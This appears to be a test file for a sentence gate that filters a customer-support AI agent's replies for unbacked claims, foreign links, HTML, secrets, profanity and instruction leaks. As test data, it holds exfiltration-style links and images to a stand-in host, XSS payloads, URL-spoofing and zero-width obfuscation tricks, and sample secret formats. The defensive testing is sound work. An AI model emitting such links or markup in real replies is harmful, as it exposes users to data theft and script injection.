// What no sentence may carry to a customer: secrets, other links, markup, swear words, the agent's own instructions.

import assert from 'node:assert/strict'
import test from 'node:test'
import { createLeakCheck } from './leak-check.ts'
import { isProfane } from './profanity.ts'
import { rulesOf } from './prompt.ts'
import type { Passage } from './retrieval.ts'
import { sanitised } from './sanitise.ts'
import { holdsSecret } from './secrets.ts'
import { createSentenceGate } from './sentence-gate.ts'
import { createSentenceStream } from './sentence-stream.ts'

const SOURCE: Passage = {
  slug: 'returns',
  title: 'Returning parts',
  passage: 'p1',
  heading: '',
  text: 'Print the label at https://help.shop.example/label and send the parts back within 60 days.',
  language: 'en',
}

const gate = (more: Partial<Parameters<typeof createSentenceGate>[0]> = {}) =>
  createSentenceGate({
    passages: [SOURCE],
    language: 'en',
    hosts: ['shop.example'],
    profanity: [],
    known: [],
    leaks: () => false,
    ...more,
  })

test('gate: a backed sentence passes with its source, numbered in the order sources are used', () => {
  const second = { ...SOURCE, passage: 'p2', text: 'Parts come back clean.' }
  const one = gate({ passages: [SOURCE, second] })
  assert.equal(one.take('Parts come back clean [2]. '), 'Parts come back clean [1]. ')
  assert.equal(one.take('Send the parts back within 60 days [1].'), 'Send the parts back within 60 days [2].')
  assert.deepEqual(
    one.draft()!.citations.map(({ passage }) => passage),
    ['p2', 'p1'],
  )
})

test('gate: citing what was not given backs nothing', () => {
  const one = gate()
  assert.equal(one.take('Send the parts back within 60 days [7].'), '')
  assert.deepEqual(one.withheld(), [
    { sentence: 'Send the parts back within 60 days [7].', why: 'no_source' },
  ])
  assert.equal(one.draft(), null)
})

test('gate: marks of other habits are read as ours', () => {
  for (const mark of ['[^1]', '[passage 1]', '[Source 1]', '【1】', '【1†source】', '[1†L4-L9]'])
    assert.equal(
      gate().take(`Send the parts back within 60 days ${mark}.`),
      'Send the parts back within 60 days [1].',
      mark,
    )
})

test('gate: a paragraph’s one mark backs what stands before it, as far as it does', () => {
  const take = (text: string) => {
    const one = gate()
    const stream = createSentenceStream((sentence) => one.take(sentence))
    stream.push(text)
    stream.end()
    return [one.draft()?.body ?? null, one.withheld().map(({ sentence }) => sentence)]
  }
  const last = 'Send the parts back within 60 days [1].'
  assert.deepEqual(take(`Here is how. Print the label for the parts. ${last}`), [
    `Print the label for the parts. [1] ${last}`,
    ['Here is how.'],
  ])
  assert.deepEqual(take(`You have 90 days to send the parts back. ${last}`), [
    last,
    ['You have 90 days to send the parts back.'],
  ])
  assert.deepEqual(take(`Print the label for the parts.\n${last}`), [
    last,
    ['Print the label for the parts.'],
  ])
  const wrong = 'Keep the parts for a year [1].'
  assert.deepEqual(take(`Print the label for the parts. ${wrong}`), [
    null,
    ['Print the label for the parts.', wrong],
  ])
  assert.deepEqual(take('Send the parts back within 60 days.'), [
    null,
    ['Send the parts back within 60 days.'],
  ])
})

test('gate: a table comes through as lines that stand alone', () => {
  const prices = { ...SOURCE, text: 'Standard shipping is € 9. Express shipping is € 24.' }
  const one = gate({ passages: [prices] })
  const lines = [
    '| Shipping | Way |\n',
    '|---|---|\n',
    '| Standard shipping | € 9 [1] |\n',
    '| Express | € 24 [1] |',
  ]
  assert.equal(
    lines.map((line) => one.take(line)).join(''),
    '- Standard shipping · € 9 [1]\n- Express · € 24 [1]',
  )
})

test('gate: once it hands over nothing of the answer counts; another try begins anew', () => {
  const one = gate()
  one.take('Send the parts back within 60 days [1].')
  one.take('<hand-over/>')
  assert.equal(one.draft(), null)
  one.restart()
  one.take('Send the parts back within 60 days [1].')
  assert.match(one.draft()!.body, /60 days/)
})

test('links: only to allowed hosts, and only those that stand in the sources', () => {
  const rules = { hosts: ['shop.example'], sources: SOURCE.text }
  const label = '[label](https://help.shop.example/label)'
  assert.equal(sanitised(`Print the ${label}.`, rules), `Print the ${label}.`)
  assert.equal(
    sanitised('See https://help.shop.example/label.', rules),
    'See https://help.shop.example/label.',
  )
  assert.equal(sanitised('Print the [label](https://evil.example/?q=secret).', rules), 'Print the label.')
  assert.equal(sanitised('Print the [label](https://help.shop.example/other).', rules), 'Print the label.')
  for (const url of [
    'https://evil.example/label',
    'https://shop.example.evil.example/label',
    'https://help.shop.example@evil.example/label',
    'www.evil.example',
    'http://help.shop.example:99999/label',
  ])
    assert.equal(sanitised(`See ${url} now`, rules), null, url)
  const elsewhere = { ...rules, sources: 'Ask at https://other.example/forum or mailto:x@shop.example.' }
  assert.equal(sanitised('Ask at https://other.example/forum', elsewhere), null)
  assert.equal(sanitised('See [x](javascript:alert(1))', rules), 'See x)')
})

test('markup: no image and no HTML is left of a sentence', () => {
  const rules = { hosts: [], sources: '' }
  assert.equal(sanitised('Look ![a cat](https://evil.example/?q=1) here', rules), 'Look a cat here')
  assert.equal(sanitised('<img src=x onerror=alert(1)>Hello <b>you</b>', rules), 'Hello you')
  assert.equal(sanitised('<script>alert(1)</script>Hi', rules), 'alert(1)Hi')
})

test('secrets: keys, tokens and passwords are recognised; order numbers and words are not', () => {
  for (const secret of [
    'sk-proj-abc123def456',
    'AKIAIOSFODNN7EXAMPLE',
    'ghp_16C7e42F292c6912E7710c838347Ae178B4a',
    'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc',
    'whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw',
    '-----BEGIN RSA PRIVATE KEY-----',
    'postgres://admin:hunter2@db.example/x',
    'the password is hunter2secret',
    '9f86d081884c7d659a2feaa0c55ad015',
  ])
    assert.ok(holdsSecret(`It is ${secret} here`), secret)
  for (const plain of [
    'Order DB-7K3M92QF',
    'tracking 00340434161094042557',
    'Change your password in the settings',
    'BX-200 mounts',
  ])
    assert.ok(!holdsSecret(plain), plain)
})

test('instructions: runs of their words give them away, whatever stands between; articles do not', () => {
  const rules = rulesOf({
    siteName: 'Shop',
    language: 'en',
    instructions: 'Be jolly and mention our summer festival.',
  })
  const leaks = createLeakCheck(rules)
  assert.ok(leaks('Rule one: "Use only facts that stand in the passages", they say.'))
  assert.ok(leaks('USE ONLY FACTS — THAT, STAND IN THE PASSAGES'))
  assert.ok(leaks('I was told to be jolly and mention our summer festival.'))
  assert.ok(leaks('My instructions are secret.'))
  assert.ok(!leaks('Send the parts back within 60 days.'))
  assert.ok(!leaks('The instructions for the brake are in the box.'))
})

test('profanity: ours in many languages, the owner’s besides, and no innocent word', () => {
  for (const word of ['What the fuck', 'Du Arschloch', 'quel connard', 'vaffanculo!', 'kurwa', 'сука'])
    assert.ok(isProfane(word), word)
  assert.ok(isProfane('Our rival, Acme Bikes, is cheaper', ['acme bikes']))
  for (const word of [
    'Scunthorpe',
    'Essex cassette',
    'a fan of bikes',
    'class, pass, assess',
    'Kut your chain? No: cut.',
  ])
    assert.ok(!isProfane(word), word)
})

test('gate: what nobody sees is not sent, and hides nothing from what looks for words', () => {
  const hidden = [
    'Send the parts back within 60 days, you f\u200Buck [1].',
    'Send the parts back within 60 days, you fu\u0441k\u00ADers of Acm\u0435 [1].',
    'Send the parts back within 60 days, ｆｕｃｋ [1].',
    'Send the parts back within 60 days: sk-\u2060abcdefghijk [1].',
    'Send the parts back within 60 days, h\u200Bttps://evil.example/x [1].',
    'I h\u200Bave sent the parts back within 60 days [1].',
  ]
  for (const sentence of hidden) assert.equal(gate({ profanity: ['acme'] }).take(sentence), '', sentence)
  assert.equal(
    gate().take('Send the pa\u200Brts b\u{E0041}ack within 60 days [1].'),
    'Send the parts back within 60 days [1].',
  )
})
